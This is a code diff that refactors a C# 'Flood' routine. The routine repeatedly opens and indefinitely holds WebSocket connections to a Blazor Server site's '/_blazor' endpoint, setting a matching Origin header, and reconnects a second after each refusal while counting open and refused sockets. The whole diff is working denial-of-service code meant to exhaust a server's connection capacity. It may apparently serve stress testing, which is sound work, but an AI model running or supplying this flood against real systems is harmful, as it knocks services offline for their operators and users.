@@ -39,33 +39,42 @@ static class Flood
         return 0;
     }
 
-    /// <summary>Reads a page, opens its live connection and holds it; when refused, comes back after a second.</summary>
+    /// <summary>Comes back after a second whenever it is refused, until it is over.</summary>
     static async Task AttackAsync(HttpClient client, Uri address, CancellationToken over)
     {
-        var live = new UriBuilder(new Uri(address, "/_blazor")) { Scheme = "ws" }.Uri;
-        while (!over.IsCancellationRequested)
+        try
         {
-            try
+            while (true)
             {
-                using (var answer = await client.GetAsync("/", over))
-                {
-                    if (answer.StatusCode == HttpStatusCode.OK) Interlocked.Increment(ref s_pages);
-                }
-                using var socket = new ClientWebSocket();
-                socket.Options.SetRequestHeader("Origin", address.GetLeftPart(UriPartial.Authority));
-                await socket.ConnectAsync(live, over);
-                Interlocked.Increment(ref s_open);
-                await Task.Delay(Timeout.Infinite, over);
-            }
-            catch (Exception error) when (error is WebSocketException or HttpRequestException)
-            {
+                await HoldAsync(client, address, over);
                 Interlocked.Increment(ref s_refused);
-                await Task.Delay(TimeSpan.FromSeconds(1), over).ContinueWith(_ => { }, CancellationToken.None, TaskContinuationOptions.None, TaskScheduler.Default);
+                await Task.Delay(TimeSpan.FromSeconds(1), over);
             }
-            catch (OperationCanceledException)
+        }
+        catch (OperationCanceledException)
+        {
+            // It is over.
+        }
+    }
+
+    /// <summary>Reads a page, opens its live connection and holds it; returns only when it is refused.</summary>
+    static async Task HoldAsync(HttpClient client, Uri address, CancellationToken over)
+    {
+        try
+        {
+            using (var answer = await client.GetAsync("/", over))
             {
-                return;
+                if (answer.StatusCode == HttpStatusCode.OK) Interlocked.Increment(ref s_pages);
             }
+            using var socket = new ClientWebSocket();
+            socket.Options.SetRequestHeader("Origin", address.GetLeftPart(UriPartial.Authority));
+            await socket.ConnectAsync(new UriBuilder(new Uri(address, "/_blazor")) { Scheme = "ws" }.Uri, over);
+            Interlocked.Increment(ref s_open);
+            await Task.Delay(Timeout.Infinite, over);
+        }
+        catch (Exception error) when (error is WebSocketException or HttpRequestException)
+        {
+            // Refused, which the caller counts.
         }
     }
 
